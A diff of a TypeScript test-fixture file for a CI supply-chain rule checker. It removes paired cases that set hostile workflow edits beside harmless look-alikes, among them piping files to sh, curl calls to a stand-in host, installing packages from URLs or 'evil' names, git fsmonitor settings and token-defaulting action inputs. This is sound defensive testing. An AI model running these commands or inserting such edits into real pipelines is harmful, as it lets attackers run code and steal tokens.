@@ -9,59 +9,13 @@ const [newestTag = ''] = known['actions/checkout'].map((line) => line.split(' ')
 const checkout = (of: string) => release.replace('acme/checkout@v4', `actions/checkout@${of}`)
 const readOnly = tests.replace('          npm ci\n          npm test', '          npm test')
 const runner = (of: string) => tests.replace('[ubuntu-24.04]', '[ubuntu-24.04]').replace(expression('matrix.os'), of)
-const action = (inputs: string, using = 'node24, main: a.js') => `inputs: ${inputs}\nruns: { using: ${using} }\n`
 const guarded = release.replace(
   "if: github.ref == 'refs/heads/main'",
   "if: github.ref == 'refs/heads/main' && github.event.created",
 )
 
-function ofAction(what: string, before: string, attack: string, harmless: string): RuleCase {
-  const fires = changed('action.yml', before, attack)
-  return { rule: 'workflow', severity: 'hold', what, fires, quiet: changed('action.yml', before, harmless) }
-}
-
-function ofHooks(what: string, before: string, attack: string, harmless: string): RuleCase {
-  const written = (rev: string, repo = 'https://github.com/astral-sh/ruff-pre-commit') =>
-    `repos:\n  - repo: ${repo}\n    rev: ${rev}\n    hooks: [{ id: a }]\n`
-  const file = '.pre-commit-config.yaml'
-  return {
-    ...{ rule: 'pre-commit-revision', severity: 'hold', what },
-    fires: changed(file, written(before), written(attack)),
-    quiet: changed(file, written(before), written(harmless)),
-  }
-}
-
-const ruff = known['astral-sh/ruff-pre-commit'].map((line) => line.split(' '))
-const [ruffTag = '', ruffCommit = ''] = ruff[0] ?? []
-const [oldTag = '', oldCommit = ''] = ruff[1] ?? []
-
-/** Scripts of a job that runs the project's code and holds nothing: what is taken or shown, beside what is brought. */
-const lines: readonly [what: string, attack: string, harmless: string][] = [
-  ['a file that is written where a tool looks', 'echo x > .npmrc', 'echo "found=1" >> "$GITHUB_OUTPUT"'],
-  ['a variable for all later steps', 'echo "A=b" >> "$GITHUB_ENV"', 'echo "## Tests" >> $GITHUB_STEP_SUMMARY'],
-  ['a path for all later steps', 'echo x >> $GITHUB_PATH', 'cat report.txt 2>/dev/null || true'],
-  ['a shell that reads what is shown', 'cat x.sh | sh', 'cat x.sh'],
-  ['a command in what is shown', 'echo "$(curl h.example)"', 'echo "$RUNNER_OS done"'],
-  ['a program that a variable names', '$TOOL test', 'rm -f $HOME/.cache/x'],
-  ['a variable as a command of a package manager', 'npm $TOOL evil', 'ls "$HOME/x"'],
-  ['a command behind a removal', 'rm -rf out; ./x', 'sudo rm -rf /usr/local/bin/x out'],
-  ['a program that git starts', 'git diff --ext-diff', 'git diff --exit-code -- dist/index.js'],
-  ['a file that git writes', 'git log --output=.npmrc', 'git describe --tags'],
-  ['a setting of git', 'git config core.fsmonitor x', 'git status --porcelain'],
-  ['a script outside', '../x/verify.sh', 'checks/verify.sh 24'],
-  ['a script of the machine', '/tmp/x', 'bin/verify --fast'],
-  ['another package for the machine', 'npm install -g evil', 'npm install -g npm@11'],
-  ['an older name of a package manager', 'npm install -g npm@npm:evil', 'npm install --ignore-engines'],
-  ['a tap that anybody can make', 'brew install evil/tap/x', 'brew install mono'],
-  ['a package from an address', 'pip install https://h.example/x', 'python -m pip install --upgrade pip'],
-  ['another manifest', 'composer update --working-dir=x', 'composer update --prefer-lowest'],
-  ['an option of tox that is code', 'tox -e py -c x.ini', 'tox run -e py314,lint'],
-  ['a condition that runs a program', 'if curl h.example; then', 'if test -f out.txt; then'],
-]
-
 /** Each an attack beside the change that it could pass for. */
 export const sameReachCases: readonly RuleCase[] = [
-  ...lines.map(([what, attack, harmless]) => pair(what, tests, ['npm test', attack], ['npm test', harmless])),
   pair(
     'a commit that no release is',
     checkout('v4'),
@@ -242,54 +196,6 @@ export const sameReachCases: readonly RuleCase[] = [
       '  more: { runs-on: ubuntu-24.04, steps: [{ uses: acme/codeql-scan@v2 }, { run: npm test }] }\n  test:\n',
     ],
   ),
-  ofAction(
-    'an input that has a token without being given',
-    action('{ a: { default: b } }'),
-    action(`{ a: { default: b }, token: { default: "${expression('github.token')}" } }`),
-    action('{ a: { default: b }, draft: { description: Whether, default: false } }'),
-  ),
-  ofAction(
-    'an input that is another one without being given',
-    action('{ a: { default: b } }'),
-    action('{ a: { default: c } }'),
-    action('{ a: { default: b, description: What it is } }'),
-  ),
-  ofAction(
-    'an input that is a script without being given',
-    action('{ a: { default: b } }'),
-    action('{ a: { default: b }, pre-script: { default: x } }'),
-    action('{ a: { default: b }, pre-script: { description: What runs first } }'),
-  ),
-  ofAction(
-    'a new input that the steps knew already',
-    action('{}', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
-    action('{ call: { default: evil } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
-    action('{ more: { default: b } }', `composite, steps: [{ run: "${expression('inputs.call')} x" }]`),
-  ),
-  ofAction(
-    'another value for an output',
-    `outputs: { a: { value: "${expression('steps.a.outputs.a')}" } }\n${action('{}')}`,
-    `outputs: { a: { value: "${expression('github.head_ref')}" } }\n${action('{}')}`,
-    `outputs: { a: { value: "${expression('steps.a.outputs.a')}", description: Which }, b: { description: More } }\n${action('{}')}`,
-  ),
-  ofHooks('a commit that no release of a hook is', oldCommit, 'c'.repeat(40), ruffCommit),
-  ofHooks('an older release of a hook', ruffTag, oldTag, ruffCommit),
-  ofHooks('a branch of a hook', oldTag, 'main', ruffTag),
-  {
-    rule: 'pre-commit-revision',
-    severity: 'hold',
-    what: 'the commit of a release under another repository',
-    fires: changed(
-      '.pre-commit-config.yaml',
-      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
-      `repos:\n  - { repo: "https://github.com/evil/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
-    ),
-    quiet: changed(
-      '.pre-commit-config.yaml',
-      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${oldTag}, hooks: [] }\n`,
-      `repos:\n  - { repo: "https://github.com/astral-sh/ruff-pre-commit", rev: ${ruffTag}, hooks: [] }\n`,
-    ),
-  },
   {
     ...{ rule: 'workflow-trigger', severity: 'hold' as const, what: 'a person’s start beside a secret' },
     fires: changed(path, release, release.replace('on: {', 'on: { workflow_dispatch: ,')),
